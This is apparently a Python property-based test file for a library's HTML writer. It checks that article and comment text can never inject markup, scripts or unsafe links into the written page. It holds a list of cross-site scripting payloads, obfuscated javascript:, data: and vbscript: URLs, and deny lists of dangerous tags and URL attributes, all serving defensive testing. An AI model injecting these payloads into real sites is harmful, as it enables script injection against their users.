"""HTML safety: nothing in a written page comes from user content but text.

Each drawn article has every string field made of arbitrary characters with
attack payloads mixed in, and addresses in every scheme. The page is written
(whole or as a fragment, at a drawn ``max_nesting`` so that flat replies with
their "in reply to" links occur) and parsed back with lxml. Then:

- what could run or restyle is absent: no ``<script>`` (the writer emits no
  JSON-LD), no ``<base>``, no embedded or form elements, no
  ``<meta http-equiv>``, no attribute named ``on...`` nor ``style``, and the
  only ``<style>`` is :data:`threadkit.formats.html.STYLESHEET` in a whole
  page (none in a fragment);
- every address attribute (``href``, ``src``, ``action``, ``formaction`` and
  the other URL attributes) is the page's own link to a card (``#c-`` and a
  comment's id, percent-encoded, or ``#tk-cN``) or, read as a
  browser reads it, an ``http``, ``https`` or ``mailto`` URL;
- the markup does not depend on user content: the page of a *twin* article,
  whose strings are all replaced by ``x`` (keeping line breaks, and keeping
  each address linkable or not, and distinct ids distinct), has the same
  elements, nesting, attribute names and writer-owned attribute values, a
  card's anchor counted by its kind only;
- every user string is in the parsed page verbatim, as an element's text
  (``<p>`` and ``<br>`` read as paragraph and line breaks) or an attribute
  value, so no entity in it was decoded and no markup in it interpreted;
- the page reads back as the article.

``tests/formats/test_html.py`` checks the pages of ``threadkit.strategies.articles()``
against an allow-list of the writer's elements and attributes; this file
checks a different, hostile generator against the rules above.
"""

from __future__ import annotations

import json
import os
import re
from typing import Any

import attrs
import lxml.html
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from threadkit import Article, Author, Comment, CommentState
from threadkit.formats import html as tk_html

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "-->",
    "<!--",
    "<![CDATA[",
    "]]>",
    "<base href='https://evil.example/'>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">x</a>',
    '<form action="https://evil.example/"><button formaction=javascript:alert(1)>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "&lt;script&gt;",
    "&amp;",
    "&#x6a;avascript:",
    '" onmouseover="alert(1)',
    "' style='x:expression(alert(1))",
    "<p>",
    "</p>",
    "<br>",
    "</article></details></section>",
    "<details open><summary>",
    '<span itemprop="name">',
)

SCHEMES = (
    "https://news.example/a?b=1&c=2",
    "http://news.example/",
    "HTTPS://NEWS.EXAMPLE/",
    "mailto:editor@news.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "/relative/path",
    "#tk-c1",
    "news.example/no-scheme",
    "javascript&colon;alert(1)",
    "\ufeffjavascript:alert(1)",
    "https:",
)

# What the model takes: no controls but tab and newline, no surrogates, no noncharacters.
_CHARACTERS = st.characters(
    codec="utf-8",
    exclude_categories=("Cs", "Cc"),
    include_characters="\n\t",
    exclude_characters="".join(
        [chr(code) for code in range(0xFDD0, 0xFDF0)]
        + [chr(plane * 0x10000 + low) for plane in range(17) for low in (0xFFFE, 0xFFFF)]
    ),
)

_TEXTS = st.lists(
    st.one_of(st.text(_CHARACTERS, max_size=10), st.sampled_from(PAYLOADS)), max_size=5
).map("".join)
_LINES = _TEXTS.map(lambda s: s.replace("\n", " "))
_NONBLANK = _LINES.filter(lambda s: bool(s.strip()))
_URLS = st.one_of(
    _LINES, st.sampled_from(SCHEMES), st.tuples(st.sampled_from(SCHEMES), _LINES).map("".join)
)


def _optional(strategy: st.SearchStrategy[str]) -> st.SearchStrategy[str | None]:
    return st.none() | strategy


_AUTHORS = st.builds(
    Author, name=_optional(_LINES), bio=_TEXTS, url=_optional(_URLS), id=_optional(_LINES)
).filter(lambda author: not author.is_empty())
_EXTRAS = st.dictionaries(
    _LINES, st.one_of(st.integers(min_value=-(2**63), max_value=2**63 - 1), _TEXTS), max_size=2
)


def _comment(replies: st.SearchStrategy[list[Comment]]) -> st.SearchStrategy[Comment]:
    return st.builds(
        lambda replies, **fields: Comment(replies=tuple(replies), **fields),
        replies,
        text=_TEXTS,
        author=st.none() | _AUTHORS,
        id=_optional(_LINES),
        url=_optional(_URLS),
        state=st.sampled_from(CommentState),
        extra=_EXTRAS,
    )


# Four levels, so that max_nesting 0 to 2 lists some replies flat.
_COMMENTS = _comment(st.just([]))
for _ in range(3):
    _COMMENTS = _comment(st.lists(_COMMENTS, max_size=2))

ARTICLES = st.builds(
    Article,
    title=_NONBLANK,
    subtitle=_optional(_LINES),
    body=_TEXTS,
    authors=st.lists(_AUTHORS, max_size=2).map(tuple),
    url=_optional(_URLS),
    site=_optional(_LINES),
    tags=st.lists(_NONBLANK, max_size=2).map(tuple),
    comments=st.lists(_COMMENTS, max_size=3).map(tuple),
    extra=_EXTRAS,
)

# The issue asks 1,000 examples of this property in CI, more than the ci
# profile gives every property.
thorough = settings(
    max_examples=max(1000, settings().max_examples)
    if os.environ.get("HYPOTHESIS_PROFILE") == "ci"
    else settings().max_examples
)

# Elements that run code, load something or submit a form.
FORBIDDEN_TAGS = {
    "script", "base", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
    "input", "button", "img", "image", "svg", "math", "video", "audio", "source", "picture",
    "template", "noscript", "portal",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "background",
    "ping", "cite", "data", "longdesc", "manifest", "codebase", "archive", "lowsrc", "dynsrc",
}  # fmt: skip
# Attributes whose values the writer chooses whatever the article holds.
WRITER_VALUES = {
    "class", "id", "itemprop", "itemtype", "itemscope", "itemid", "rel", "open", "lang",
    "charset", "name", "datetime", "value", "data-threadkit", "title",
}  # fmt: skip
_OWN_LINK = re.compile(r"#(?:c-[A-Za-z0-9._~%-]+|tk-c[0-9]+)")
# An anchor from a comment's id: the twin's ids differ, so only its kind is compared.
_ID_ANCHOR = re.compile(r"(#?)c-[A-Za-z0-9._~%-]+")
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
_LINKABLE = re.compile(r"(?:https?|mailto):", re.IGNORECASE)


def browser_scheme(url: str) -> str | None:
    """The scheme a browser finds in *url*, lower-cased; ``None`` for a relative URL.

    The WHATWG URL parser first strips leading and trailing C0 controls and
    spaces, and removes every tab and newline.
    """
    url = url.strip("".join(chr(c) for c in range(0x21))).translate(
        {ord("\t"): None, ord("\n"): None, ord("\r"): None}
    )
    match = _SCHEME.match(url)
    return match.group(1).lower() if match else None


def linkable(url: str) -> bool:
    """Whether *url* is one the writer documents as written as a link: http, https, mailto."""
    return _LINKABLE.match(url) is not None


def own_link(value: str) -> bool:
    """Whether *value* is the link to a comment card that the writer makes."""
    return _OWN_LINK.fullmatch(value) is not None


def parse(page: str) -> etree._Element:
    # A fragment declares no charset: the page that embeds it does.
    parser = lxml.html.HTMLParser(encoding="utf-8")
    return lxml.html.document_fromstring(page.encode("utf-8"), parser=parser)


def shown(element: etree._Element) -> str:
    """The text of *element* as a reader sees it: ``<br>`` a line break, ``<p>`` a paragraph."""
    parts: list[str] = []
    for event, node in etree.iterwalk(element, events=("start", "end")):
        if event == "start":
            if node.tag == "br":
                parts.append("\n")
            elif node.tag == "p" and node is not element:
                before = node.getprevious()
                if before is not None and before.tag == "p":
                    parts.append("\n\n")
            parts.append(node.text or "")
        elif node is not element:
            parts.append(node.tail or "")
    return "".join(parts)


def skeleton(root: etree._Element) -> list[tuple[Any, ...]]:
    """Elements in document order with their parent's position, attribute names and own values."""
    nodes = list(root.iter())
    position = {node: index for index, node in enumerate(nodes)}
    shape = []
    for node in nodes:
        attributes = tuple(
            (
                name,
                _ID_ANCHOR.sub(r"\1c-*", value)
                if name in WRITER_VALUES or (name == "href" and own_link(value))
                else None,
            )
            for name, value in sorted(node.attrib.items())
        )
        shape.append((node.tag, position.get(node.getparent()), attributes))
    return shape


def _x(value: str) -> str:
    return re.sub("[^\n]", "x", value)


def _x_url(url: str | None) -> str | None:
    if url is None:
        return None
    return "https://x" if linkable(url) else "x"


def _x_author(author: Author | None) -> Author | None:
    if author is None:
        return None
    return Author(
        name=None if author.name is None else _x(author.name),
        bio=_x(author.bio),
        url=_x_url(author.url),
        id=None if author.id is None else _x(author.id),
    )


def _x_extra(extra: Any) -> dict[str, int]:
    return {"x": 1} if extra else {}


def twin(article: Article) -> Article:
    """*article* with every string made of ``x`` (line breaks kept), and the same shape.

    Comment ids become ``x``, ``xx``, ... one for each distinct id, so that
    the same comments share an id, and so get anchors of the same kind.
    """
    ids: dict[str, str] = {}

    def x_comment(comment: Comment) -> Comment:
        identifier = comment.id
        if identifier is not None:
            identifier = ids.setdefault(identifier, "x" * (len(ids) + 1))
        return attrs.evolve(
            comment,
            text=_x(comment.text),
            author=_x_author(comment.author),
            id=identifier,
            url=_x_url(comment.url),
            extra=_x_extra(comment.extra),
        )

    mapped = article.map(x_comment)
    return attrs.evolve(
        mapped,
        title=_x(article.title),
        subtitle=None if article.subtitle is None else _x(article.subtitle),
        body=_x(article.body),
        authors=tuple(_x_author(author) for author in article.authors),
        url=_x_url(article.url),
        site=None if article.site is None else _x(article.site),
        tags=tuple(_x(tag) for tag in article.tags),
        extra=_x_extra(article.extra),
    )


def user_strings(article: Article) -> list[str]:
    """Every non-empty string of *article* that the page shows or keeps."""
    found = [article.title, article.subtitle, article.body, article.url, article.site]
    found.extend(article.tags)
    people = list(article.authors)
    for comment in article.walk():
        found.extend((comment.text, comment.id, comment.url))
        if comment.author is not None:
            people.append(comment.author)
    for person in people:
        found.extend((person.name, person.bio, person.url, person.id))
    return [value for value in found if value]


def assert_nothing_runs(root: etree._Element, fragment: bool) -> None:
    styles = root.xpath("//style")
    if fragment:
        assert styles == []
    else:
        (style,) = styles
        assert style.getparent().tag == "head"
        assert style.text == "\n" + tk_html.STYLESHEET
        assert not style.attrib
    for element in root.iter():
        assert isinstance(element.tag, str), f"unexpected node {element!r}"
        assert element.tag not in FORBIDDEN_TAGS, element.tag
        assert not (element.tag == "meta" and element.get("http-equiv") is not None)
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), name
            assert name.lower() != "style", name
            if name.lower() in URL_ATTRIBUTES and not own_link(value):
                assert browser_scheme(value) in ("http", "https", "mailto"), (name, value)


@thorough
@given(ARTICLES, st.booleans(), st.integers(min_value=0, max_value=3))
def test_no_markup_comes_from_user_content(
    article: Article, fragment: bool, max_nesting: int
) -> None:
    page = tk_html.write(article, fragment=fragment, max_nesting=max_nesting)
    root = parse(page)
    assert_nothing_runs(root, fragment)

    plain = tk_html.write(twin(article), fragment=fragment, max_nesting=max_nesting)
    assert skeleton(root) == skeleton(parse(plain))

    values = {shown(element) for element in root.iter()}
    values.update(value for element in root.iter() for value in element.attrib.values())
    for value in user_strings(article):
        assert value in values, value
    extras = [json.loads(value) for value in root.xpath("//@data-extra")]
    for node in (article, *article.walk()):
        if node.extra:
            assert node.extra.thaw() in extras

    assert tk_html.read(page) == article
